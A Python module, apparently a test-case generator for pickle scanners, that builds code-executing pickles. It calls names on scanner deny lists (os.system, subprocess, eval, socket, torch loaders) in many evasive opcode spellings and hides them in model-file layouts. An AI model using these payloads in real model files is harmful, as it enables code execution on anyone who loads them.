"""Make pickles that run code in Python's unpickler: the names that scanners of pickles warn of, in many spellings."""

from __future__ import annotations

import pickle
from collections.abc import Iterator

from torch_files import EMPTY_DICT, text

# Modules and names on the lists of picklescan and fickling, and ways around such lists.
NAMES = """
__builtin__ eval exec compile getattr apply open breakpoint execfile __import__
builtins eval exec compile getattr setattr open breakpoint __import__ globals vars delattr memoryview bytearray input print
os system popen execv execvp spawnl spawnv remove unlink putenv startfile fork kill
posix system popen execve fork unlink
nt system popen
posixpath os.system
subprocess Popen call run check_call check_output getoutput getstatusoutput
_posixsubprocess fork_exec
multiprocessing.util spawnv_passfds
commands getoutput getstatusoutput
pty spawn
sys exit setrecursionlimit modules settrace _getframe
shutil rmtree copyfile move
runpy run_path run_module _run_code
code interact InteractiveInterpreter.runcode
codeop compile_command
marshal loads
types CodeType FunctionType
importlib import_module reload __import__
importlib.machinery SourceFileLoader
_frozen_importlib _gcd_import
_imp load_dynamic
imp load_source
zipimport zipimporter
pkgutil resolve_name find_loader
gc get_objects
site addsitedir main
inspect getattr_static
operator attrgetter itemgetter methodcaller
_operator attrgetter itemgetter methodcaller
functools partial reduce
copyreg add_extension _reconstructor __newobj__
copy_reg _reconstructor
ctypes CDLL string_at
cffi FFI
socket create_connection socket
ssl get_server_certificate
http.client HTTPSConnection
httplib HTTPSConnection
urllib.request urlopen urlretrieve
urllib2 urlopen
requests.api get post
aiohttp ClientSession
asyncio run create_subprocess_shell
asyncio.unix_events _UnixSubprocessTransport._start
smtplib SMTP
ftplib FTP
telnetlib Telnet
imaplib IMAP4_stream
webbrowser open
antigravity geohash
this s
pickle loads load Unpickler
_pickle loads Unpickler
cPickle loads
dill loads
cloudpickle loads
cloudpickle.cloudpickle _builtin_type _make_function subimport
joblib load
shelve open
sqlite3 connect
yaml load unsafe_load
pip main
pip._internal.cli.main main
ensurepip _run_pip
venv create
pydoc locate pipepager tempfilepager
pdb run set_trace
bdb Bdb.run
cProfile run runctx
profile run runctx
timeit timeit repeat
trace Trace.run
doctest debug_script
unittest.mock _importer
test.support.script_helper assert_python_ok
lib2to3.pgen2.grammar Grammar.loads
lib2to3.pgen2.pgen ParserGenerator.make_label
idlelib.run Executive.runcode
idlelib.pyshell ModifiedInterpreter.runcommand
idlelib.calltip get_entity
logging FileHandler
logging.config listen dictConfig
_io FileIO open
io open FileIO
tempfile mkstemp
pathlib Path Path.write_text
glob glob
linecache getline
distutils.file_util write_file
uuid _get_command_stdout
_osx_support _read_output _find_build_tool
_aix_support _read_cmd_output
_pyrepl.pager pipe_pager
platform popen _syscmd_ver
signal alarm raise_signal
threading Thread
atexit register
string Formatter
tarfile open
zipfile ZipFile
xmlrpc.client ServerProxy
numpy load fromfile
numpy.f2py crackfortran._eval_length
numpy.testing._private.utils runstring
numpy.core.multiarray _reconstruct scalar
numpy._core.multiarray _reconstruct
numpy dtype ndarray
pandas read_pickle eval
torch load save jit.load hub.load ops.load_library
torch.serialization load
torch.storage _load_from_bytes
torch._utils _rebuild_sparse_tensor _rebuild_qtensor _rebuild_device_tensor_from_numpy _import_dotted_name
torch._tensor _rebuild_from_type_v2
torch.jit.unsupported_tensor_ops execWrapper
torch._inductor.codecache compile_file
torch._dynamo.guards GuardBuilder.get
torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression
torch.utils._config_module ConfigModule.load_config
torch.utils.bottleneck.__main__ run_cprofile
torch.utils.collect_env run
torch.utils.data.datapipes.utils.decoder basichandlers
torch.hub load_state_dict_from_url
torch.nn.modules.linear Linear
transformers.models.bert.modeling_bert BertModel
tensorflow load_op_library
keras.models load_model
tfdistill load
tfdistill.errors optional
collections OrderedDict.__init__ defaultdict namedtuple
torch Size.__class__ FloatStorage.__class__
"""


def _short(value: str) -> bytes:
    content = value.encode()
    return b"\x8c" + bytes([len(content)]) + content


def spellings(module: str, name: str, argument: str) -> Iterator[tuple[str, bytes]]:
    """Yield (spelling, opcodes that leave one value) for a call of `module.name(argument)`."""
    line = module.encode() + b"\n" + name.encode() + b"\n"
    arg = text(argument)
    yield "reduce", b"c" + line + arg + b"\x85R"
    yield "protocol 0", b"c" + line + b"(S" + repr(argument).encode() + b"\ntR"
    yield "stack", _short(module) + _short(name) + b"\x93" + arg + b"\x85R"
    yield "memo", text(module) + b"q\x40" + b"0" + text(name) + b"q\x41" + b"0h\x40h\x41\x93" + arg + b"\x85R"
    yield "instance", b"(" + arg + b"i" + line
    yield "object", b"(c" + line + arg + b"o"
    yield "newobj", b"c" + line + arg + b"\x85\x81"
    yield "newobj_ex", b"c" + line + arg + b"\x85}\x92"
    yield "build", b"c" + line + b"}" + text("__setstate__") + arg + b"sb"
    yield "named only", b"c" + line


def malicious() -> Iterator[tuple[str, str, bytes]]:
    """Yield (dotted name, spelling, opcodes): each name in two of the spellings, by turns."""
    number = 0
    for row in NAMES.strip().splitlines():
        module, *names = row.split()
        for name in names:
            ways = list(spellings(module, name, "touched"))
            for way, opcodes in (ways[0], ways[number % (len(ways) - 1) + 1]):
                yield f"{module}.{name}", way, opcodes
            number += 1


def placements(opcodes: bytes) -> Iterator[tuple[str, bytes]]:
    """Yield pickles that have the opcodes as a whole, as a value, in `_metadata`, or before the end of a damaged one."""
    yield "whole", b"\x80\x04" + opcodes + b"."
    yield "value", b"\x80\x02" + EMPTY_DICT + b"(" + text("weight") + opcodes + b"u."
    yield "metadata", b"\x80\x02" + EMPTY_DICT + b"}" + text("_metadata") + opcodes + b"sb."
    yield "discarded", b"\x80\x02" + opcodes + b"0" + EMPTY_DICT + b"."
    yield "damaged", b"\x80\x04" + opcodes + b"\xff\xff"
    yield "odd opcode first", b"\x80\x04\x8f0" + opcodes + b"."


def reaches_builtins(path: str) -> bytes:
    """A pickle that makes the file `path` in Python's unpickler."""
    return pickle.dumps(_Open(path), protocol=2)


class _Open:
    def __init__(self, path: str):
        self.path = path

    def __reduce__(self) -> tuple:
        return open, (self.path, "w")
